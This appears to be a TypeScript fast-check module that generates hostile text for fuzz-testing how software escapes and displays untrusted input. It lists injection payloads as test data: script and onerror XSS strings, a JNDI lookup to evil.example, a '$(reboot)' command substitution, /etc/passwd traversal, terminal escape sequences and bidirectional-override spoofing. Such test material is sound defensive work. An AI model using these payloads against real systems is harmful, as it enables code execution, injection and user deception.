import fc from 'fast-check';

/** What a terminal, a browser, Slack, a shell or a search could take for more than text. */
const treacherous: readonly string[] = [
  '<!channel>',
  '<@U024BE7LH>',
  '<https://evil.example|Rebuild succeeded>',
  '@here',
  '`code`',
  '```',
  '*bold* _italic_ ~gone~',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)",
  '</style></title></svg>',
  '&lt;',
  '&#60;',
  ']]>',
  '<!--',
  '\u001b[31mred',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u001b]0;title\u0007',
  '\u001b[2J\u001b[H',
  '\u009b2J',
  '\u0000',
  '\b\b\b',
  '\r',
  '\n',
  '\u2028',
  '\u202egnp.exe',
  '\u2066\u2069',
  '\u200f',
  '\u061c',
  '\ufeff',
  '\u200b',
  '\uffff',
  '\ud83d',
  '\udc00',
  '💡',
  'e\u0301',
  '" or name ~ "',
  '%0a%0d',
  '../../etc/passwd',
  '$(reboot)',
  '${jndi:ldap://evil.example}',
  '__proto__',
];

/** Text as others may have written it, up to a few hundred characters. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  fc
    .array(fc.oneof(fc.constantFrom(...treacherous), fc.string({ maxLength: 8 })), { maxLength: 8 })
    .map((parts) => parts.join('')),
  fc.string({ unit: 'binary', maxLength: 60 }),
  fc.constantFrom(...treacherous),
);

/** Hostile, and sometimes far longer than anything that a person writes. */
export const longHostileText: fc.Arbitrary<string> = fc
  .tuple(hostileText, fc.constantFrom(1, 1, 1, 40, 4000))
  .map(([text, times]) => text.repeat(times).slice(0, 100_000));

/** Control characters, and signs that turn or hide what stands beside them, or that nobody sees. */
export const unsafeSigns =
  /[\p{Cc}\p{Cs}\u061c\u200b\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069\ufeff\ufffe\uffff]/u;
